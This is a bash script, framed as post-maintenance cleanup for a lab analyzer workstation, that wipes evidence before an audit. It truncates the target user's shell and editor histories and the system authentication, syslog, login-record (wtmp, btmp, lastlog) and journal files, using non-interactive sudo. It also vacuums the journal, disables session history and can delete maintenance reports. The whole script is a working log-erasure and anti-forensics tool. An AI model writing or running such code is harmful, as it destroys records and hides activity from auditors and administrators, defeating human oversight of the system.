#!/usr/bin/env bash
# Post-maintenance cleanup for the analyzer workstation.
# Run by the service technician at the end of a visit: clears the session
# traces and the system logs so the lab "starts clean" for the next audit.
set -uo pipefail

KEEP_REPORTS=1
TARGET_USER="${SUDO_USER:-$USER}"
REPORT_DIR="./maintenance_reports"

log() { printf '%s cleanup: %s\n' "$(date +%T)" "$*"; }

usage() {
    echo "usage: $0 [--user NAME] [--drop-reports]"
}

while [[ $# -gt 0 ]]; do
    case "$1" in
        --user) TARGET_USER="$2"; shift 2 ;;
        --drop-reports) KEEP_REPORTS=0; shift ;;
        -h|--help) usage; exit 0 ;;
        *) usage; exit 1 ;;
    esac
done

user_home() {
    getent passwd "$1" | cut -d: -f6
}

# Build the list of files to clear with a small Python helper; paths come in
# through the environment and go out one per line.
list_targets() {
    TARGET_HOME="$(user_home "$TARGET_USER")" python3 - <<'PY'
import glob, os
home = os.environ.get("TARGET_HOME") or os.path.expanduser("~")
paths = [
    os.path.join(home, ".bash_history"),
    os.path.join(home, ".zsh_history"),
    os.path.join(home, ".python_history"),
    os.path.join(home, ".lesshst"),
    os.path.join(home, ".viminfo"),
    "/var/log/auth.log",
    "/var/log/syslog",
    "/var/log/wtmp",
    "/var/log/btmp",
    "/var/log/lastlog",
]
paths += glob.glob("/var/log/journal/*/*.journal")
for p in paths:
    if os.path.exists(p):
        print(p)
PY
}

truncate_file() {
    local f="$1"
    if [[ -w "$f" ]]; then
        : > "$f"
    else
        sudo -n truncate -s 0 "$f" 2>/dev/null || return 1
    fi
}

clear_session_history() {
    history -c 2>/dev/null || true
    unset HISTFILE
    export HISTSIZE=0
}

main() {
    log "starting for user $TARGET_USER"
    local cleared=0 failed=0
    while IFS= read -r target; do
        if truncate_file "$target"; then
            cleared=$((cleared + 1))
        else
            failed=$((failed + 1))
            log "could not clear $target"
        fi
    done < <(list_targets)

    if command -v journalctl >/dev/null 2>&1; then
        sudo -n journalctl --rotate >/dev/null 2>&1 || true
        sudo -n journalctl --vacuum-time=1s >/dev/null 2>&1 || true
    fi
    clear_session_history

    if [[ "$KEEP_REPORTS" -eq 0 && -d "$REPORT_DIR" ]]; then
        rm -f "$REPORT_DIR"/*.txt
        log "maintenance reports removed"
    fi
    log "done: $cleared cleared, $failed failed"
}

main
